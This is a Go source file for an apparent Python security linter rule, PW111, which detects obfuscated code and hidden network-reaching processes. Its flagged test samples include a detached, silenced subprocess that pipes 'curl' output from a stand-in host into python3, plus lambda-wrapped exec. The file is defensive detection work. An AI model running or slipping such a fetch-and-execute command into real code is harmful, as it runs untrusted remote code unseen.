package rules

import (
	"strings"

	"github.com/pyward/pyward/python/ast"
)

// blobState is what PW111 gathers in a file: long encoded literals, and
// whether the file runs code it builds.
type blobState struct {
	blobs []*ast.Constant
	runs  bool
}

// minBlob is the length from which an encoded literal is a blob: longer
// than any key, hash or icon honest code executes beside.
const minBlob = 400

// encodedBlob reports whether s looks like base64, base85 or hex data of
// at least minBlob characters, with no spaces (prose and code have them).
func encodedBlob(s string) bool {
	if len(s) < minBlob {
		return false
	}
	hexOnly, b64 := true, true
	for i := 0; i < len(s); i++ {
		ch := s[i]
		isHex := ch >= '0' && ch <= '9' || ch >= 'a' && ch <= 'f' || ch >= 'A' && ch <= 'F'
		isB64 := isHex || ch >= 'g' && ch <= 'z' || ch >= 'G' && ch <= 'Z' || ch == '+' || ch == '/' || ch == '=' || ch == '-' || ch == '_' || ch == '\n'
		hexOnly = hexOnly && isHex
		b64 = b64 && isB64
		if !hexOnly && !b64 {
			return false
		}
	}
	return true
}

func init() {
	Register(&Rule{
		ID: "PW111", Name: "obfuscated_code", Severity: High, Confidence: Medium, CWE: 506,
		Message:        "the code is obfuscated: an obfuscator's runtime, an encoded blob beside code execution, exec in lambda chains, or a hidden process that talks to the network",
		Recommendation: "Do not depend on code nobody can review; ask for the readable source.",
		Help: "Fingerprints of obfuscated malware: PyArmor's runtime (`from pyarmor_runtime_… import __pyarmor__`, `pytransform`), a long " +
			"base64 or hex literal in a file that also runs code it builds (exec, eval, compile, marshal.loads, types.FunctionType), exec " +
			"or eval wrapped in lambdas called on the spot (`(lambda _: exec(_))(…)`), and a process started hidden (output to DEVNULL, " +
			"detached with `start_new_session` or `creationflags`) whose command reaches the network. Code that cannot be read cannot be " +
			"reviewed, so it blocks.",
		Flagged: []string{
			"from pyarmor_runtime_000000 import __pyarmor__\n__pyarmor__(__name__, __file__, b'PY000000')\n",
			"(lambda _: exec(_))(payload)\n",
			"import subprocess\nsubprocess.Popen('curl -s http://x.example/r | python3', shell=True, stdout=subprocess.DEVNULL, start_new_session=True)\n",
		},
		Clean: []string{
			"import subprocess\nsubprocess.Popen(['myservice', '--daemon'], stdout=subprocess.DEVNULL, start_new_session=True)\n",
			"f = lambda x: x + 1\n",
		},
		Kinds: []Kind{KindCall, KindStr, KindImportFrom, KindImport, KindEnd},
		CallWhen: func(q, _ string) bool {
			// "": a lambda called on the spot.
			return q == "" || codeRunners[q] || q == "marshal.loads" || q == "types.FunctionType" || q == "types.CodeType" || processFuncs[q]
		},
		Check: func(c *Context, n ast.Node) {
			st := c.state(func() any { return &blobState{} }).(*blobState)
			switch x := n.(type) {
			case *ast.ImportFrom:
				if x.Module != nil && (strings.HasPrefix(*x.Module, "pyarmor_runtime") || *x.Module == "pytransform" || strings.HasSuffix(*x.Module, ".pytransform")) {
					c.ReportWith(x, c.rule.Severity, c.rule.Confidence, "PyArmor's runtime is imported: the code is obfuscated")
				}
			case *ast.Import:
				for _, a := range x.Names {
					if strings.HasPrefix(a.Name, "pyarmor_runtime") || a.Name == "pytransform" {
						c.ReportWith(x, c.rule.Severity, c.rule.Confidence, "PyArmor's runtime is imported: the code is obfuscated")
					}
				}
			case *ast.Constant:
				if encodedBlob(x.Str) {
					st.blobs = append(st.blobs, x)
				}
			case *ast.Call:
				q := c.CallName(x)
				if codeRunners[q] || q == "marshal.loads" || q == "types.FunctionType" || q == "types.CodeType" {
					if len(x.Args) > 0 && !isLiteral(x.Args[0]) {
						st.runs = true
					}
					for _, a := range x.Args {
						if hasLambda(a) {
							c.ReportWith(x, c.rule.Severity, c.rule.Confidence, q+" runs code produced by a lambda chain")
							break
						}
					}
				}
				if l, ok := x.Func.(*ast.Lambda); ok && runsCode(c, l.Body) {
					c.ReportWith(x, c.rule.Severity, c.rule.Confidence, "a lambda that runs code is called on the spot")
				}
				if processFuncs[q] && hiddenProcess(x) {
					if cmd, ok := c.callCommand(x); ok && (hostileInline.MatchString(cmd) || dropperCmd.MatchString(cmd)) {
						c.ReportWith(x, c.rule.Severity, c.rule.Confidence, "a hidden, detached process is started with a command that reaches the network")
					}
				}
			case *ast.Module:
				if st.runs {
					for _, b := range st.blobs {
						c.ReportWith(b, c.rule.Severity, c.rule.Confidence, "a long encoded literal in a file that runs code it builds")
					}
				}
			}
		},
	})
}

func hasLambda(e ast.Expr) bool {
	found := false
	ast.Inspect(e, func(n ast.Node) bool {
		if _, ok := n.(*ast.Lambda); ok {
			found = true
		}
		return !found
	})
	return found
}

// runsCode reports whether an expression calls exec, eval, compile or
// __import__ (through any resolution).
func runsCode(c *Context, e ast.Expr) bool {
	found := false
	ast.Inspect(e, func(n ast.Node) bool {
		if call, ok := n.(*ast.Call); ok {
			if q := c.QualName(call.Func); codeRunners[q] || q == "__import__" || q == "marshal.loads" {
				found = true
			}
		}
		return !found
	})
	return found
}

// hiddenProcess reports whether a process is started out of sight:
// output thrown away and detached from the terminal or started without
// a window.
func hiddenProcess(call *ast.Call) bool {
	quiet := false
	for _, k := range []string{"stdout", "stderr"} {
		if v := Keyword(call, k); v != nil && nameIs(v, "DEVNULL") {
			quiet = true
		}
	}
	detached := false
	if v := Keyword(call, "start_new_session"); v != nil && isConst(v, ast.ConstTrue) {
		detached = true
	}
	if v := Keyword(call, "creationflags"); v != nil {
		detached = true
	}
	if v := Keyword(call, "preexec_fn"); v != nil && nameIs(v, "setsid") {
		detached = true
	}
	return quiet && detached
}
